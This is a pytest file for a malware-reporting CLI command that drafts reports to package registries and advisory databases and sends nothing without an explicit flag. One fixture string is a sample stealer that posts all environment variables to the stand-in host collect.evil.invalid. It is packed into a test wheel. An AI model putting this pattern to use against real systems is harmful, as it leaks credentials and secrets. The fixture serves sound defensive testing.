"""`pratique report`: what it writes, and that it sends nothing unasked."""

import json
import shlex
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.builders import zipped
from tests.cli.running import Machine
from tests.respond.behaviour.samples import STEALER, archive

METADATA = "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n"
PYTHON = """import os, urllib.request
urllib.request.urlopen("https://collect.evil.invalid/drop", data=str(dict(os.environ)).encode())
"""


@pytest.fixture
def sample(tmp_path: Path) -> str:
    path = tmp_path / "sample-1.0.0.tgz"
    path.write_bytes(archive())
    return str(path)


@pytest.fixture
def wheel(tmp_path: Path) -> str:
    path = tmp_path / "sample-1.0.0-py3-none-any.whl"
    path.write_bytes(zipped({"sample/__init__.py": PYTHON, "sample-1.0.0.dist-info/METADATA": METADATA}))
    return str(path)


@contextmanager
def server(status: int) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    got: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            got.append({"path": self.path, "headers": dict(self.headers), "body": json.loads(body)})
            self.send_response(status)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    made = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=made.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{made.server_port}", got
    finally:
        made.shutdown()
        thread.join()
        made.server_close()


@pytest.mark.parametrize(
    ("receiver", "words"),
    [("npm", "Package: sample\nVersions: 1.0.0\n"), ("ghsa", "Affected versions: = 1.0.0\n")],
)
def test_a_form_has_the_behaviour_with_its_lines_and_no_live_address(
    machine: Machine, sample: str, receiver: str, words: str
) -> None:
    ran = machine.run("report", receiver, "sample@1.0.0", "--artifact", sample)
    assert 0 == ran.code, ran.err
    assert words in ran.out
    assert "gather.js:5" in ran.out
    assert "https://" not in ran.out
    assert "Nothing was sent" in ran.err


def test_a_mal_record_is_json_with_its_place_in_the_collection(machine: Machine, sample: str) -> None:
    ran = machine.run("report", "osv", "sample@1.0.0", "--artifact", sample)
    assert ["1.0.0"] == ran.json["affected"][0]["versions"]
    assert ["collect.evil.invalid"] == ran.json["database_specific"]["iocs"]["domains"]
    assert "osv/malicious/npm/sample/MAL-0000-sample.json" in ran.err


def test_a_gem_is_reported_by_mail(machine: Machine) -> None:
    ran = machine.run("report", "rubygems", "calm@1.0.0", "--because", "steals tokens")
    assert (3, True) == (ran.code, ran.out.startswith("Subject: Malicious gem: calm 1.0.0\n"))
    assert "the store has no file of gem:calm@1.0.0" in ran.err


def test_bytes_of_the_store_are_described(machine: Machine) -> None:
    assert 0 == machine.run("inspect", "calm@1.0.0").code
    ran = machine.run("report", "npm", "calm@1.0.0", "--because", "a drill")
    assert (0, False) == (ran.code, "behaviour is unknown" in ran.err), ran.err
    assert "calm-1.0.0.tgz (sha256:" in ran.out


def test_a_report_without_bytes_and_reason_is_not_written(machine: Machine) -> None:
    ran = machine.run("report", "npm", "gone@1.0.0")
    assert (2, "") == (ran.code, ran.out)
    assert "would have no description" in ran.err


@pytest.mark.parametrize(
    "words",
    [
        ["npm", "sample"],
        ["npm", "a@1.0.0", "b@1.0.0"],
        ["npm", "pkg:pypi/sample@1.0.0"],
        ["npm", "sample@1.0.0", "--send"],
        ["osv", "sample@1.0.0", "--to", "http://127.0.0.1:9"],
        ["pypi", "sample==1.0.0", "--send"],
        ["npm", "sample@1.0.0", "--artifact", "no-such-file.tgz"],
        ["nobody", "sample@1.0.0"],
    ],
    ids=" ".join,
)
def test_what_cannot_be_meant_is_a_usage_error(machine: Machine, words: list[str]) -> None:
    ran = machine.run("report", *words)
    assert (2, "") == (ran.code, ran.out)


def test_an_observation_links_to_the_file_in_the_inspector(machine: Machine, wheel: str) -> None:
    ran = machine.run("report", "pypi", "sample==1.0.0", "--artifact", wheel)
    assert "is_malware" == ran.json["kind"]
    path = ran.json["inspector_url"].split("/")
    assert ["", "project", "sample", "1.0.0", "packages"] == path[:5]
    assert [2, 2, 60] == [len(part) for part in path[5:8]]
    assert ["sample-1.0.0-py3-none-any.whl", "sample", "__init__.py"] == path[8:]
    assert "only the path" in ran.err


def test_with_a_token_and_the_users_word_it_is_sent(
    machine: Machine, wheel: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PRATIQUE_PYPI_TOKEN", "secret-token")
    with server(202) as (url, got):
        options = ["--to", url, "--inspector", "https://inspector.registry.example"]
        ran = machine.run("report", "pypi", "sample==1.0.0", "--artifact", wheel, *options)
        assert ([], 0) == (got, ran.code)
        ran = machine.run("report", "pypi", "sample==1.0.0", "--artifact", wheel, *options, "--send")
    assert (0, 1) == (ran.code, len(got)), ran.err
    assert "/danger-api/projects/sample/observations" == got[0]["path"]
    assert "Bearer secret-token" == got[0]["headers"]["Authorization"]
    assert "application/vnd.pypi.api-v0-danger+json" == got[0]["headers"]["Content-Type"]
    assert ran.json == got[0]["body"]
    assert "secret-token" not in ran.out + ran.err


def test_a_refused_report_is_no_success(
    machine: Machine, wheel: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PRATIQUE_PYPI_TOKEN", "secret-token")
    with server(403) as (url, _):
        options = ["--to", url, "--inspector", "https://inspector.registry.example", "--send"]
        ran = machine.run("report", "pypi", "sample==1.0.0", "--artifact", wheel, *options)
    assert 3 == ran.code
    assert "did not accept the report (403)" in ran.err


def test_the_sample_is_inert() -> None:
    assert ".invalid/" in STEALER


PAGE = Path(__file__).resolve().parents[3] / "docs/how-to/report-malware.md"


def documented() -> list[list[str]]:
    """Return the commands of the page that send nothing."""
    lines = PAGE.read_text(encoding="utf-8").replace("\\\n", "").splitlines()
    found = [shlex.split(line) for line in lines if line.startswith("    pratique report ")]
    assert 5 == len(found)
    return [words[1:] for words in found if "--send" not in words]


@pytest.mark.parametrize("words", documented(), ids=lambda words: words[1])
def test_the_commands_of_the_page_run(
    machine: Machine, sample: str, wheel: str, monkeypatch: pytest.MonkeyPatch, words: list[str]
) -> None:
    assert Path(sample).parent == Path(wheel).parent
    monkeypatch.chdir(Path(sample).parent)
    ran = machine.run(*words)
    assert 0 == ran.code, ran.err
    assert "sample" in ran.out
